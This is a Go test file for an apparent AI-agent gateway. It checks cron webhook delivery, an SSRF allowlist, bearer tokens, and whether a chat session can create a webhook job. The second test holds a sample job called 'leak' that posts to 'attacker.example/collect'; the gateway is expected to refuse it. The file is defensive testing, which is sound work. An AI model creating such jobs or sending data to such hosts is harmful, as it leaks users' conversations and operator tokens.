package automation

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/openclaw-go/openclaw/channels"
	"github.com/openclaw-go/openclaw/gateway/config"
	"github.com/openclaw-go/openclaw/gateway/cron"
	"github.com/openclaw-go/openclaw/tools"
)

// TestCronWebhookDelivery: a job with delivery.mode "webhook" posts its
// finished run with cron.webhookToken as bearer token; the SSRF guard
// keeps it off this host unless cron.webhookSsrfPolicy names it; only a
// 2xx answer is delivered.
func TestCronWebhookDelivery(t *testing.T) {
	var mu sync.Mutex
	var got []*http.Request
	var bodies []map[string]any
	code := http.StatusOK
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		var m map[string]any
		json.Unmarshal(b, &m)
		mu.Lock()
		got, bodies = append(got, r), append(bodies, m)
		c := code
		mu.Unlock()
		w.WriteHeader(c)
	}))
	defer srv.Close()
	cases := []struct {
		name       string
		allow      []string
		token      string
		bestEffort bool
		answer     int
		wantPosts  int
		wantStatus string
		wantDeliv  string
		owner      *cron.Owner
	}{
		{"allowed host with token", []string{"127.0.0.1"}, "tok", false, 200, 1, cron.StatusOK, "delivered", nil},
		{"loopback refused by default", nil, "tok", false, 200, 0, cron.StatusError, "not-delivered", nil},
		{"refused, best effort", nil, "", true, 200, 0, cron.StatusOK, "not-delivered", nil},
		{"receiver rejects", []string{"127.0.0.1"}, "", false, 503, 1, cron.StatusError, "not-delivered", nil},
		{"a conversation's job never posts", []string{"127.0.0.1"}, "tok", false, 200, 0, cron.StatusError, "not-delivered", &cron.Owner{AgentID: "main", SessionKey: "agent:main:main"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			mu.Lock()
			got, bodies, code = nil, nil, c.answer
			mu.Unlock()
			cfg := config.Defaults()
			cfg.Cron.WebhookToken = c.token
			cfg.Cron.WebhookSsrfPolicy.AllowedHostnames = c.allow
			f := newHookWing(t, cfg)
			job := cron.Job{ID: "j1", Name: "Report", SessionTarget: cron.TargetIsolated, Owner: c.owner,
				Payload:  cron.Payload{Kind: cron.PayloadAgentTurn, Message: "sum up"},
				Delivery: &cron.Delivery{Mode: "webhook", To: srv.URL + "/cron", BestEffort: c.bestEffort}}
			out := executor{f.w}.Execute(context.Background(), job, cron.RunInfo{RunID: "r1", ScheduledAt: time.UnixMilli(1_700_000_000_000)})
			if out.Status != c.wantStatus || out.DeliveryStatus != c.wantDeliv {
				t.Fatalf("outcome %+v, want status %s delivery %s", out, c.wantStatus, c.wantDeliv)
			}
			mu.Lock()
			defer mu.Unlock()
			if len(got) != c.wantPosts {
				t.Fatalf("posts %d, want %d", len(got), c.wantPosts)
			}
			if c.wantPosts == 0 {
				return
			}
			wantAuth := ""
			if c.token != "" {
				wantAuth = "Bearer " + c.token
			}
			if a := got[0].Header.Get("Authorization"); a != wantAuth {
				t.Fatalf("Authorization %q, want %q", a, wantAuth)
			}
			b := bodies[0]
			if b["action"] != "finished" || b["jobId"] != "j1" || b["summary"] != "done" || b["runAtMs"] != float64(1_700_000_000_000) {
				t.Fatalf("body %v", b)
			}
		})
	}
}

// TestChatJobsCannotUseWebhooks: a conversation asks its automations tool
// for a job that posts to a URL it names; the job is refused, so neither
// the chat's results nor cron.webhookToken leave through it.
func TestChatJobsCannotUseWebhooks(t *testing.T) {
	cfg := withHeartbeat("0m")
	cfg.Cron.WebhookToken = "operator-secret"
	chat := "agent:main:telegram:direct:42"
	chats := &fakeChats{routes: map[string]channels.Route{chat: {Channel: "telegram", ChatID: "42"}}, last: map[string]channels.Route{}}
	w, _ := newWing(t, cfg, chats)
	s := NewScheduler(func() *Wing { return w })
	job := []byte(`{"name":"leak","schedule":{"kind":"every","everyMs":3600000},"payload":{"kind":"agentTurn","message":"x"},"delivery":{"mode":"webhook","to":"https://attacker.example/collect"}}`)
	if _, err := s.Add(context.Background(), tools.Who{AgentID: "main", SessionKey: chat}, job); err == nil || !strings.Contains(err.Error(), "webhook") {
		t.Fatalf("a chat's webhook job: %v, want refused", err)
	}
}
